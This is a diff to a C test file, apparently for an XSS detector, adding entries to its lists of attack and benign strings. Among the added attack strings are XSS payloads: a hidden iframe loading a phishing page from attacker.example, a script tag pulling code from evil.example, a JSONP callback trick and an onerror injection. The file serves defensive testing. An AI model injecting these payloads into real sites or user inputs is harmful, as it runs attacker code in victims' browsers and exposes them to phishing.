@@ -41,6 +41,10 @@ static const char *const attacks[] = {
 	"prompt(1)",
 	"x:expression(alert(1))",
 	"<math><maction actiontype=statusline xlink:href=javascript:alert(1)>",
+	"';window.onerror=alert;throw 1;//",
+	"hi <iframe src=//attacker.example/phish width=0 height=0></iframe>",
+	"<script src=\"/api/jsonp?callback=alert(1)//\"></script>",
+	"<script src=\"//evil.example/x.js\"></script>",
 };
 
 static const char *const benign[] = {
@@ -61,6 +65,9 @@ static const char *const benign[] = {
 	"<on monday> we meet",
 	"Don't open (the box)",
 	"Hello {{ user.name }}",
+	"-  <script src=\"/static/js/app.js\"></script>\n+  <script src=\"/static/js/app.3f9a2c.js\" defer></script>",
+	"<xml><appid><![CDATA[wx2421b1c4370ec43b]]></appid></xml>",
+	"window.onload = init;",
 	"",
 };
 
